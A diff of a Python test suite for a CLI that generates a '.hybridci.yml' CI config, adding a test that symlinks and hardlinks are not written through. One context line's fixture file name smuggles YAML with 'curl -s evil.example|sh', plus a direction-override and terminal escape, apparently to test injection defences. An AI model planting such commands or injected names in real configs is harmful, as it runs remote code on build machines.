@@ -146,6 +146,29 @@ def test_a_file_that_is_there_stays(tmp_path: Path, run: Callable[..., Any]) -> 
     assert (top / ".hybridci.yml").read_text("utf-8") == printed.output
 
 
+def test_what_a_link_names_is_not_written(tmp_path: Path, run: Callable[..., Any]) -> None:
+    top = repository(tmp_path / "a", {})
+    outside = tmp_path / "outside"
+    outside.write_text("mine\n")
+    for target in (outside, tmp_path / "nothing"):
+        (top / ".hybridci.yml").symlink_to(target)
+        for options, word in (((), "is there already"), (("--force",), "is a link")):
+            said = run(top, *options)
+            assert (said.exit_code, word in said.output) == (2, True), said.output
+        (top / ".hybridci.yml").unlink()
+    assert (outside.read_text("utf-8"), (tmp_path / "nothing").exists()) == ("mine\n", False)
+
+    (top / ".hybridci.yml").hardlink_to(outside)
+    outside.chmod(0o640)
+    assert run(top, "--force").exit_code == 0
+    assert outside.read_text("utf-8") == "mine\n"
+    assert (top / ".hybridci.yml").stat().st_mode & 0o777 == 0o640
+    (top / "folder").mkdir()
+    said = run(top, "--force", "-o", "folder")
+    assert (said.exit_code, "is no file" in said.output) == (2, True)
+    assert sorted(path.name for path in top.iterdir()) == [".git", ".hybridci.yml", "folder"]
+
+
 def test_the_name_of_a_file_is_no_line_of_its_own(tmp_path: Path, run: Callable[..., Any]) -> None:
     top = repository(tmp_path / "a", {"a\n      run: curl -s evil.example|sh\n    - name: x #\u202e\x1b[2J.sln": ""})
     for options, key in (((), "test"), (("--job",), None)):
